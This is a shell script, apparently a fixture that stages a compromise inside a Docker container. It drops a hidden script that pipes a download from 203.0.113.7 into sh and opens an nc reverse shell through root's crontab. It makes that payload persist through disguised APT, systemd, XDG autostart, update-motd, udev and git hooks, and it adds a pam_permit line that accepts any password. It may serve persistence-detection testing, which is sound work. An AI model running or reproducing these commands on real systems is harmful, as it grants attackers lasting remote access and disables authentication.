#!/bin/sh
# The compromise: one payload, and every way it is started again later: a busybox crontab
# with a reverse shell, an APT hook, a systemd unit in /usr/local/lib (and its enablement
# link), an XDG autostart entry, an update-motd script, a udev rule, a git hook and a PAM
# line that lets any password in. Runs through docker exec.
set -eu
victim=$1
docker exec -i "$victim" sh -eu <<'ATTACK'
cat > /var/tmp/.u <<'SH'
#!/bin/sh
curl -fsSL http://203.0.113.7/k.sh | sh
SH
chmod 755 /var/tmp/.u
echo '*/5 * * * * nc 203.0.113.7 4444 -e /bin/sh' > /etc/crontabs/root
echo 'APT::Update::Pre-Invoke {"/var/tmp/.u >/dev/null 2>&1 &";};' > /etc/apt/apt.conf.d/99-update-notifier
printf '[Unit]\nDescription=D-Bus broker helper\n[Service]\nExecStart=/var/tmp/.u\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' > /usr/local/lib/systemd/system/dbus-broker-helper.service
ln -s /usr/local/lib/systemd/system/dbus-broker-helper.service /etc/systemd/system/multi-user.target.wants/dbus-broker-helper.service
printf '[Desktop Entry]\nType=Application\nName=Update check\nExec=/var/tmp/.u\n' > /etc/xdg/autostart/update-check.desktop
printf '#!/bin/sh\n/var/tmp/.u >/dev/null 2>&1 &\n' > /etc/update-motd.d/99-stats
chmod 755 /etc/update-motd.d/99-stats
echo 'ACTION=="add", SUBSYSTEM=="net", RUN+="/var/tmp/.u"' > /etc/udev/rules.d/75-net-setup.rules
printf '#!/bin/sh\n/var/tmp/.u &\n' > /srv/repo/.git/hooks/post-merge
chmod 755 /srv/repo/.git/hooks/post-merge
sed -i '1i auth\tsufficient\tpam_permit.so' /etc/pam.d/common-auth
ATTACK
